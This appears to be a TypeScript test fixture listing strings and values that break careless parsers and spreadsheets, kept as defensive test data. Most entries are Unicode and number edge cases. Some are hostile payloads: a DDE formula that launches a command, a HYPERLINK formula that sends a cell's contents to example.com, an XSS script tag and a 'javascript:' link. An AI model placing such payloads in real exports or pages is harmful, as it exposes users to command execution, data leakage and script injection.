/**
 * Texts and values that break careless parsers and spreadsheets, for the option `hurting`.
 * The formula list holds every beginning that a spreadsheet or an import is known to take for a formula, and the ones
 * that hide it behind something invisible. Nothing here is malformed JSON: an exact parser must return each one.
 */
import { RawNumber } from "./Wire.ts"
import type { Json } from "./Wire.ts"

/** Beginnings that a spreadsheet may evaluate. */
export const formulas: ReadonlyArray<string> = [
  "=1+1",
  "+1+1",
  "-1+1",
  "-5.50",
  "+49 170 1234567",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=1\nx",
  "=1\r\nx",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1,1)",
  "\u0000=1+1",
  " =1+1",
  "\uFEFF=1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\u3000=1+1",
  '=HYPERLINK("http://example.com/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  '"=1+1"',
]

/** Texts that are hard to transmit, to show or to store. */
export const texts: ReadonlyArray<string> = [
  ...formulas,
  "x".repeat(33_000),
  "Long title, ".repeat(42).slice(0, 500),
  "שלום, דירה 3",
  "شقة للإيجار، الطابق ٣",
  "\u202Egnirts desrever",
  "👩‍👩‍👧‍👦 family flat 🏡",
  "e\u0301te\u0301 / été",
  "before\uFFFEafter",
  "before\uFFFFafter",
  "lone \uD800 high",
  "lone \uDC00 low",
  "nul \u0000 inside",
  "bell \u0007 escape \u001B[31mred\u001B[0m",
  "line\u2028separator\u2029paragraph",
  "</script><script>alert(1)</script>",
  "__proto__",
  "null",
  "12345678901234567890",
  "2024-03-31",
  "1E308",
  "a;b,c\td|e",
  '""',
  "   ",
  "",
]

/** Values of `unit_id`, whose type is not specified. */
export const unitIds: ReadonlyArray<Json> = [
  new RawNumber("9007199254740993"),
  new RawNumber("123456789012345678901234567890"),
  new RawNumber("1.10"),
  { formula: "1+1" },
  { text: "open", hyperlink: "javascript:alert(1)" },
  { richText: [{ text: "=1+1" }] },
  [1, "two", null, { three: 3 }],
  "=1+1",
  "007",
  "",
  0,
  -1,
  1.5,
  true,
  null,
]
